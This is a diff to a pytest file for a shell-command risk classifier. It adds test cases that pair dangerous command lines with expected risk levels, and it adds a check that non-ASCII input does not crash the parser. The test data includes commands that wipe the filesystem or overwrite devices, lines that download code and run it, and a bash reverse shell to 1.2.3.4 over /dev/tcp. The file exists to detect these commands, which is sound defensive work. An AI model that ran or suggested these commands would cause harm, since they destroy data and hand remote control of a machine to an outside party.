@@ -2,7 +2,10 @@
 
 from __future__ import annotations
 
+import subprocess
+import sys
 import time
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -132,8 +135,8 @@ def test_a_long_or_disguised_line_keeps_both_ends_and_shows_what_is_hidden() -> 
         ('sh -c "$(curl x)"', Risk.CRITICAL, "Runs a download as a shell line"),
         ("bash <(curl x)", Risk.CRITICAL, "Runs a download as a shell script"),
         ("echo cm0= | base64 -d | sh", Risk.HIGH, "Pipes text into a shell"),
-        ("bash <<< 'rm -rf /'", Risk.HIGH, "Runs text given in the line"),
-        ("bash <<E\nrm -rf /\nE\n", Risk.HIGH, "Runs text given in the line"),
+        ("bash <<< 'rm -rf /'", Risk.HIGH, "Runs text that it reads"),
+        ("bash <<E\nrm -rf /\nE\n", Risk.HIGH, "Runs text that it reads"),
         ("$CMD x", Risk.HIGH, "name is only known when it runs"),
         ("chmod -R 755 .", Risk.HIGH, "everything below a folder"),
         ("chown -R me .", Risk.HIGH, "everything below a folder"),
@@ -158,6 +161,24 @@ def test_a_long_or_disguised_line_keeps_both_ends_and_shows_what_is_hidden() -> 
         (r"del /s /q C:\Users", Risk.HIGH, "Deletes folders"),
         ("Remove-Item -Recurse x", Risk.HIGH, "Deletes folders"),
         ("RM -rf /", Risk.CRITICAL, "Deletes everything"),
+        ("coproc rm -rf /", Risk.CRITICAL, "Deletes everything"),
+        ("env -S 'rm -rf /'", Risk.CRITICAL, "Deletes everything"),
+        ("ssh host 'rm -rf /'", Risk.CRITICAL, "Deletes everything"),
+        ("rm -rf ./../..", Risk.CRITICAL, "Deletes everything"),
+        ("é=1 rm -rf /ä", Risk.LOW, ""),
+        ("sh < x", Risk.HIGH, "Runs text that it reads"),
+        ("python3 -c 'x'", Risk.HIGH, "Runs a program written in the line"),
+        ("curl x -o f; chmod +x f; ./f", Risk.CRITICAL, "also downloads"),
+        ("curl x > f && sh f", Risk.CRITICAL, "also downloads"),
+        ("source <(curl x)", Risk.CRITICAL, "Runs a download"),
+        ("./x", Risk.MEDIUM, "by its path"),
+        ("tar xf a -C /etc", Risk.HIGH, "Writes under /etc"),
+        ("curl x -o /etc/y", Risk.HIGH, "Writes under /etc"),
+        ("cp x /dev/sda", Risk.CRITICAL, "straight to a device"),
+        ("mv /* x", Risk.CRITICAL, "Moves everything"),
+        ("sed -i s/a/b/ f", Risk.MEDIUM, "in place"),
+        ("docker run --privileged x", Risk.HIGH, "all rights"),
+        ("bash -i >& /dev/tcp/1.2.3.4/80 0>&1", Risk.CRITICAL, "to another computer"),
     ],
 )
 def test_a_dangerous_line_is_said_to_be_dangerous(line: str, risk: Risk, words: str) -> None:
@@ -179,6 +200,9 @@ def test_a_dangerous_line_is_said_to_be_dangerous(line: str, risk: Risk, words: 
         "uname -a; date",
         "find . -name '*.py'",
         "systemctl status x",
+        "tar cf x.tar /etc",
+        "python3 --version",
+        "/usr/bin/ls /etc",
         "# rm -rf /",
         "for i in 1 2; do echo $i; done",
     ],
@@ -234,6 +258,17 @@ def test_tangled_lines_within_the_limits_stay_quick() -> None:
         before = time.perf_counter()
         judge_line(piece * (1000 // len(piece)), "command")
         assert time.perf_counter() - before < 2, piece
+
+
+def test_characters_outside_ascii_do_not_crash_the_parser() -> None:
+    """The grammar's own scanner looks such characters up in a table of 256, and the process dies."""
+    program = (
+        "from core.policy.shell import read_line\n"
+        "for low in range(0x80, 0x110000, 0x40):\n"
+        "    read_line('{' + ' {'.join(chr(low + i) for i in range(0, 0x40, 5)) + 'a {')"
+    )
+    root = Path(__file__).parents[2]
+    assert subprocess.run([sys.executable, "-c", program], cwd=root, timeout=60, check=False).returncode == 0
 
 
 def test_shells_inside_shells_end_somewhere() -> None:
